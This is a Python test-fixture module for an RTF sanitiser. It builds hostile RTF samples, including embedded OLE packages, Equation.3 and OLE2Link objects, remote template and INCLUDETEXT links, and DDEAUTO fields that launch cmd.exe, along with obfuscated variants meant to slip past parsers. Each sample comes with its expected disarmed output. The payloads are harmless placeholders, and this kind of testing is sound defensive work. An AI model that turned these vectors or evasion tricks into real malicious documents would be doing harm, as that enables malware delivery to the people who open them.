"""Hostile RTF fixtures, built from one harmless base document.

Every fixture inserts a hostile fragment at the base document's slot (or wraps,
truncates or extends the document) and states exactly what the disarmed output
must be: the base with the slot replaced by what legitimately stays there (the
``\\result`` / ``\\fldrslt`` content, wrapped in a group). Nothing here is
harmful: the "payloads" are short text files, and the links point at
``example.invalid``.
"""

from __future__ import annotations

import struct
import zlib
from dataclasses import dataclass, field

# 日本語の文書です。 / 関所 as \uN escapes with '?' fallbacks (Word writes these)
JA = "日本語の文書です。"
JA_RTF = "".join(f"\\u{ord(c)}?" for c in JA).encode()
HEADER = rb"{\rtf1\ansi\ansicpg932\deff0\uc1"
BODY_HEAD = (
    rb"{\fonttbl{\f0\fnil\fcharset128 MS Mincho;}{\f1\fswiss\fcharset0 Arial;}}"
    b"\r\n"
    rb"{\colortbl;\red0\green0\blue0;\red0\green0\blue255;}"
    rb"{\info{\title Sekisho RTF test}{\author sekisho}}"
    b"\r\n"
    rb"\pard\plain\f1\fs22 Sekisho RTF test document.\par"
    b"\r\n"
    rb"\pard\f0 " + JA_RTF + rb"\par"
    b"\r\n"
    rb"\pard\f1 Before the slot."
)
BODY_TAIL = rb"\par" b"\r\n" rb"\pard\f1 After the slot: \u38306?\u25152? end.\par" b"\r\n}"
TEXTS = ("Sekisho RTF test document.", JA, "Before the slot.", "After the slot: 関所 end.")


def document(slot: bytes = b"", header: bytes = HEADER) -> bytes:
    """The base document with ``slot`` inserted after "Before the slot."."""
    return header + BODY_HEAD + slot + BODY_TAIL


BASE = document()


@dataclass(frozen=True)
class Fixture:
    name: str
    data: bytes                    # the hostile input
    expected: bytes                # the exact disarmed output
    findings: list[tuple[str, str, str]] = field(default_factory=list)  # kind, location, action
    texts: tuple[str, ...] = TEXTS  # visible text the output must still show

    @property
    def changed(self) -> bool:
        return any(action in ("removed", "neutralized") for _, _, action in self.findings)


# ------------------------------------------------------------------ OLE building blocks


def ole1(class_name: str, native: bytes, *, linked: bool = False) -> bytes:
    """An OLE1 ObjectHeader + EmbeddedObject (MS-OLEDS 2.2), as Word writes in \\objdata."""

    def lpstr(text: str) -> bytes:
        raw = text.encode("latin-1") + b"\x00"
        return struct.pack("<I", len(raw)) + raw

    out = struct.pack("<II", 0x0501, 1 if linked else 2) + lpstr(class_name) + lpstr("")
    out += lpstr("")
    if not linked:
        out += struct.pack("<I", len(native)) + native
    return out


def package_native(filename: str, payload: bytes) -> bytes:
    """OLE Package native data wrapping a file (the layout oletools' oleobj reads)."""
    name = filename.encode("latin-1") + b"\x00"
    path = b"C:\\Users\\x\\" + name
    return (struct.pack("<H", 2) + name + path + struct.pack("<II", 0, 0) + path
            + struct.pack("<I", len(payload)) + payload)


def cfb(clsid: str) -> bytes:
    """A minimal, valid compound file whose root storage has ``clsid``."""
    sector = 512
    header = bytearray(sector)
    header[0:8] = bytes.fromhex("D0CF11E0A1B11AE1")
    struct.pack_into("<HHHHH", header, 0x18, 0x3E, 3, 0xFFFE, 9, 6)
    struct.pack_into("<IIIIIIIII", header, 0x28, 0, 1, 1, 0, 4096, 0xFFFFFFFE, 0,
                     0xFFFFFFFE, 0)
    header[0x4C:sector] = b"\xff" * (sector - 0x4C)
    struct.pack_into("<I", header, 0x4C, 0)  # DIFAT[0]: the FAT is sector 0
    fat = bytearray(b"\xff" * sector)
    struct.pack_into("<II", fat, 0, 0xFFFFFFFD, 0xFFFFFFFE)
    directory = bytearray(sector)
    for i in range(4):
        struct.pack_into("<III", directory, i * 128 + 0x44, 0xFFFFFFFF, 0xFFFFFFFF, 0xFFFFFFFF)
    name = "Root Entry".encode("utf-16-le") + b"\x00\x00"
    directory[0:len(name)] = name
    struct.pack_into("<HBB", directory, 0x40, len(name), 5, 1)
    d1, d2, d3, d4, d5 = clsid.split("-")
    directory[0x50:0x60] = (struct.pack("<IHH", int(d1, 16), int(d2, 16), int(d3, 16))
                            + bytes.fromhex(d4 + d5))
    struct.pack_into("<I", directory, 0x74, 0xFFFFFFFE)
    return bytes(header + fat + directory)


EQUATION3 = "0002CE02-0000-0000-C000-000000000046"
STD_OLE_LINK = "00000300-0000-0000-C000-000000000046"
WORD8 = "00020906-0000-0000-C000-000000000046"


def png_1x1() -> bytes:
    def chunk(kind: bytes, body: bytes) -> bytes:
        crc = zlib.crc32(kind + body) & 0xFFFFFFFF
        return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", crc)

    ihdr = struct.pack(">IIBBBBB", 1, 1, 8, 2, 0, 0, 0)
    return (b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", ihdr)
            + chunk(b"IDAT", zlib.compress(b"\x00\xff\x00\x00")) + chunk(b"IEND", b""))


def hexlines(data: bytes, width: int = 64) -> bytes:
    text = data.hex().encode()
    return b"\r\n".join(text[i:i + width] for i in range(0, len(text), width))


PICT = rb"{\pict\pngblip\picw26\pich26\picwgoal15\pichgoal15 " + hexlines(png_1x1()) + b"}"
PACKAGE = ole1("Package", package_native("invoice.txt", b"harmless test payload\r\n"))
EQUATION = ole1("Equation.3", cfb(EQUATION3))
OLE2LINK = ole1("OLE2Link", cfb(STD_OLE_LINK))
WORDDOC = ole1("Word.Document.8", cfb(WORD8))


# ------------------------------------------------------------------------- fragments


def objdata(data: bytes) -> bytes:
    return rb"{\*\objdata " + b"\r\n" + hexlines(data) + b"\r\n}"


def obj(words: bytes, data: bytes, result: bytes | None, cls: bytes | None = None,
        *, inner: bytes = b"") -> bytes:
    """An \\object group; ``result`` is the content of its {\\result …} group."""
    out = rb"{\object" + words
    if cls is not None:
        out += rb"{\*\objclass " + cls + b"}"
    out += rb"\objw300\objh300" + inner + objdata(data)
    if result is not None:
        out += rb"{\result " + result + b"}"
    return out + b"}"


def fld(inst: bytes, result: bytes, words: bytes = b"") -> bytes:
    return rb"{\field" + words + rb"{\*\fldinst " + inst + rb"}{\fldrslt " + result + b"}}"


def kept(result: bytes) -> bytes:
    """What stays of an object or field: its result content, in a group."""
    return b"{" + result + b"}"


def _slot(name: str, slot: bytes, replacement: bytes, findings: list[tuple[str, str, str]],
          extra: tuple[str, ...] = ()) -> Fixture:
    return Fixture(name, document(slot), document(replacement), findings, TEXTS + extra)


def _removed(kind: str, location: str) -> tuple[str, str, str]:
    return (kind, location, "removed")


def _neutralized(kind: str, location: str) -> tuple[str, str, str]:
    return (kind, location, "neutralized")


PREVIEW = rb"{\f1 Package preview}"
DDE_CMD = rb'c:\\windows\\system32\\cmd.exe "/k calc.exe"'
DDE_RESULT = rb"{\f1 dde result}"


def hostile() -> list[Fixture]:
    """Fixtures disarmed with the default policy (hyperlinks not kept)."""
    fx = [
        _slot("package", obj(rb"\objemb", PACKAGE, PREVIEW, b"Package"), kept(PREVIEW),
              [_removed("rtf.package", "object[0]")], ("Package preview",)),
        _slot("equation", obj(rb"\objemb\objupdate", EQUATION, PICT, b"Equation.3"),
              kept(PICT), [_removed("rtf.equation", "object[0]")]),
        _slot("ole2link", obj(rb"\objautlink\objupdate\rsltpict", OLE2LINK,
                              rb"{\f1 link preview}", b"Word.Document.8"),
              kept(rb"{\f1 link preview}"), [_removed("rtf.ole_link", "object[0]")],
              ("link preview",)),
        _slot("objocx", obj(rb"\objocx", ole1("Forms.CommandButton.1", cfb(WORD8)),
                            rb"{\f1 control}", inner=rb"{\*\oleclsid \'7bD7053240\'7d}"),
              kept(rb"{\f1 control}"), [_removed("rtf.object", "object[0]")], ("control",)),
        _slot("objdata_standalone", objdata(WORDDOC), b"",
              [_removed("rtf.object", "objdata[0]")]),
        _slot("objdata_tail", rb"{\f1  tail text\objdata " + hexlines(PACKAGE) + b"}",
              rb"{\f1  tail text}", [_removed("rtf.package", "objdata[0]")], ("tail text",)),
        _slot("objupdate_standalone", rb"\objupdate", b"",
              [_removed("rtf.object", "objflag[0]")]),
        _slot("objautlink_glue", rb"{\b\objautlink1 bold}", rb"{\b bold}",
              [_removed("rtf.ole_link", "objflag[0]")], ("bold",)),
        _slot("datastore_glue", rb"{\b\i{\*\datastore 0105}old}", rb"{\b\i old}",
              [_removed("rtf.datastore", "datastore[0]")], ("old",)),
        _slot("bin_glue", rb"{\*\junk \bin{\*\datastore 00}5xyzab}", rb"{\*\junk \bin 5xyzab}",
              [_removed("rtf.datastore", "datastore[0]")]),
        _slot("datastore", rb"{\*\datastore " + hexlines(WORDDOC) + b"}", b"",
              [_removed("rtf.datastore", "datastore[0]")]),
        _slot("template", rb"{\*\template http://example.invalid/t.dotm}", b"",
              [_removed("rtf.template", "template[0]")]),
        _slot("mailmerge", rb"{\*\mailmerge\mmmaintypeletters\mmlinktoquery{\*\mmdatasource "
              rb"\\\\server\\data.xls}}", b"", [_removed("rtf.mail_merge", "mailmerge[0]")]),
        _slot("dde", fld(rb"{\rtlch\fcs1 DDEAUTO " + DDE_CMD + b"}", DDE_RESULT),
              kept(DDE_RESULT), [_neutralized("rtf.dde", "field[0]")], ("dde result",)),
        _slot("includepicture",
              fld(rb' INCLUDEPICTURE "http://example.invalid/p.png" \\* MERGEFORMATINET \\d ',
                  rb"{\f1 picture text}", rb"\flddirty"),
              kept(rb"{\f1 picture text}"), [_neutralized("rtf.include_field", "field[0]")],
              ("picture text",)),
        _slot("includetext",
              fld(rb' INCLUDETEXT "\\\\\\\\server\\\\share\\\\doc.docx" ',
                  rb"{\f1 included text}"),
              kept(rb"{\f1 included text}"), [_neutralized("rtf.include_field", "field[0]")],
              ("included text",)),
        # as LibreOffice writes it (Word templates: "click here and type" placeholders)
        _slot("macrobutton", fld(rb" MACROBUTTON NoMacro [click here] ",
                                 rb"[click here] "),
              kept(rb"[click here] "), [_neutralized("rtf.macro_field", "field[0]")],
              ("[click here]",)),
        _slot("hyperlink", fld(rb' HYPERLINK "https://www.example.invalid/" ',
                               rb"{\ul\cf2 link text}"),
              kept(rb"{\ul\cf2 link text}"), [_neutralized("rtf.hyperlink", "field[0]")],
              ("link text",)),
        _slot("hyperlink_internal", fld(rb' HYPERLINK \\l "_Toc1" ', rb"{\ul toc entry}"),
              fld(rb' HYPERLINK \\l "_Toc1" ', rb"{\ul toc entry}"), [], ("toc entry",)),
        _slot("hyperlink_computed", fld(rb' HYPERLINK \\l "x" ' + fld(b"QUOTE x", b"y"),
                                        rb"{\ul entry}"),
              kept(rb"{\ul entry}"), [_neutralized("rtf.hyperlink", "field[0]")], ("entry",)),
        _slot("orphan_fldinst", rb"{\*\fldinst DDEAUTO c:\\x.exe}", b"",
              [_removed("rtf.dde", "fldinst[0]")]),
        _slot("mixed",
              fld(b"PAGE", b"1") + obj(rb"\objemb", PACKAGE, PREVIEW, b"Package")
              + fld(b"DDE " + DDE_CMD, DDE_RESULT) + objdata(WORDDOC)
              + fld(b'HYPERLINK "http://example.invalid/"', b"link"),
              fld(b"PAGE", b"1") + kept(PREVIEW) + kept(DDE_RESULT) + kept(b"link"),
              [_removed("rtf.package", "object[0]"), _neutralized("rtf.dde", "field[1]"),
               _removed("rtf.object", "objdata[0]"),
               _neutralized("rtf.hyperlink", "field[2]")],
              ("Package preview", "dde result", "link")),
    ]
    return fx + obfuscated()


def obfuscated() -> list[Fixture]:
    junk = hexlines(PACKAGE, 6).replace(b"\r\n", b" \r\n\t xyz!?\r ")
    bin_payload = ole1("Package", package_native("x.txt", b"}{\\object}{\\*\\objdata}"))
    deep = 5000
    inner_obj = obj(rb"\objemb", EQUATION, None, b"Equation.3")
    fx = [
        _slot("objdata_junk", rb"{\object\objemb{\*\objdata " + junk + rb"}{\result "
              + PREVIEW + b"}}", kept(PREVIEW), [_removed("rtf.package", "object[0]")],
              ("Package preview",)),
        _slot("objdata_bin", rb"{\object\objemb{\*\objdata \bin" + b"0" * 200
              + str(len(bin_payload)).encode()
              + b" " + bin_payload + rb"}{\result " + PREVIEW + b"}}", kept(PREVIEW),
              [_removed("rtf.package", "object[0]")], ("Package preview",)),
        _slot("uppercase", rb"{\OBJECT\objemb{\*\objdata " + hexlines(PACKAGE) + rb"}{\result "
              + PREVIEW + b"}}", kept(PREVIEW), [_removed("rtf.package", "object[0]")],
              ("Package preview",)),
        _slot("split_word", rb"{\ob{}ject text}", rb"{\ob{}ject text}", [], ("ject text",)),
        _slot("long_word", rb"{\object\objemb" + b"\\" + b"a" * 300 + b" " + objdata(PACKAGE)
              + rb"{\result " + PREVIEW + b"}}", kept(PREVIEW),
              [_removed("rtf.package", "object[0]")], ("Package preview",)),
        _slot("many_digits", rb"{\fs" + b"0" * 300 + rb"24 big}" + obj(
              rb"\objemb\objw" + b"0" * 300 + b"1", PACKAGE, PREVIEW),
              rb"{\fs" + b"0" * 300 + rb"24 big}" + kept(PREVIEW),
              [_removed("rtf.package", "object[0]")], ("Package preview",)),
        _slot("nested", obj(rb"\objemb", WORDDOC, PREVIEW, b"Word.Document.8", inner=inner_obj),
              kept(PREVIEW), [_removed("rtf.object", "object[0]"),
                              _removed("rtf.equation", "object[1]")], ("Package preview",)),
        _slot("in_result", obj(rb"\objemb", WORDDOC, rb"{\f1 shown}" + obj(
              rb"\objemb", PACKAGE, PREVIEW)), kept(rb"{\f1 shown}" + kept(PREVIEW)),
              [_removed("rtf.object", "object[0]"), _removed("rtf.package", "object[1]")],
              ("shown", "Package preview")),
        _slot("deep", b"{" * deep + obj(rb"\objemb", PACKAGE, PREVIEW) + b"}" * deep,
              b"{" * deep + kept(PREVIEW) + b"}" * deep,
              [_removed("rtf.package", "object[0]")], ("Package preview",)),
        _slot("dde_unicode", fld(rb"\u68?\u68?\u69?AUTO " + DDE_CMD, DDE_RESULT),
              kept(DDE_RESULT), [_neutralized("rtf.dde", "field[0]")], ("dde result",)),
        _slot("dde_hex", fld(rb"\'44\'44\'45\'41UTO " + DDE_CMD, DDE_RESULT),
              kept(DDE_RESULT), [_neutralized("rtf.dde", "field[0]")], ("dde result",)),
        _slot("dde_split", fld(b"{ }{dD}\r\n{e}{A}{\\i u}To " + DDE_CMD, DDE_RESULT),
              kept(DDE_RESULT), [_neutralized("rtf.dde", "field[0]")], ("dde result",)),
        _slot("dde_computed", fld(fld(b"QUOTE 68 68 69", b"DDE") + b" " + DDE_CMD, DDE_RESULT),
              kept(DDE_RESULT), [_neutralized("rtf.obfuscated_field", "field[0]")],
              ("dde result",)),
        Fixture("unclosed", document(obj(rb"\objemb", PACKAGE, None, b"Package")[:-30])
                [:-len(BODY_TAIL)], HEADER + BODY_HEAD + b"}",
                [_removed("rtf.package", "object[0]"), ("rtf.repaired", "document", "repaired")],
                TEXTS[:3]),
        Fixture("unclosed_clean", BASE[:-1] + rb"{\b bold", BASE[:-1] + rb"{\b bold}}",
                [("rtf.repaired", "document", "repaired")], (*TEXTS, "bold")),
        Fixture("overlay", BASE + b"\r\nMZ\x90\x00 trailing {\\object\\objdata 0105}", BASE,
                [_removed("rtf.overlay", "overlay")]),
    ]
    for header in (rb"{\rtf", rb"{\rtfxyz", rb"{\rt", rb"{\rtf1 "):
        slot = obj(rb"\objemb", PACKAGE, PREVIEW, b"Package")
        fx.append(Fixture(f"header {header.decode()!r}", document(slot, header),
                          document(kept(PREVIEW), header),
                          [_removed("rtf.package", "object[0]")], (*TEXTS, "Package preview")))
    return fx


def refused() -> list[tuple[str, bytes, str]]:
    """Inputs that must be blocked: (name, data, block kind)."""
    return [
        ("too_deep", document(b"{" * 10_001 + b"x" + b"}" * 10_001), "block.limit"),
        ("ambiguous_hex", document(rb"\'{}"), "block.malformed"),
        ("bin_uppercase", document(rb"{\*\junk \BIN9 {\object}}"), "block.malformed"),
        # Word reads \bin0 and then text, LibreOffice reads \bin9 and skips "}{\object"
        ("bin_digits", document(b"{\\*\\junk \\bin" + b"0" * 260 + b"9}" + obj(
            rb"\objemb", PACKAGE, PREVIEW)), "block.malformed"),
    ]
